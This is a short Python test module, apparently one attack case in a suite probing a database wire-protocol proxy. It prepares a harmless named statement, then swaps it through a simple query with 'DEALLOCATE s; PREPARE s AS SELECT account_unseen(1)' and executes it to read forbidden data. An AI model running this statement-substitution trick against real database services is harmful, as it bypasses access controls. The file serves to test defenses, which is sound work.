"""Deallocates a harmless statement and prepares another of the name."""

from attacks.frames import SYNC, ask, bind, execute, parse, query
from attacks.talking import Server

WANTS = "read"


def attack(server: Server) -> bytes:
    with server.login() as client:
        ask(client, parse(b"SELECT name FROM customer", b"s"), SYNC)
        ask(client, query(b"DEALLOCATE s; PREPARE s AS SELECT account_unseen(1)"))
        return ask(client, bind(b"s"), execute(), SYNC)
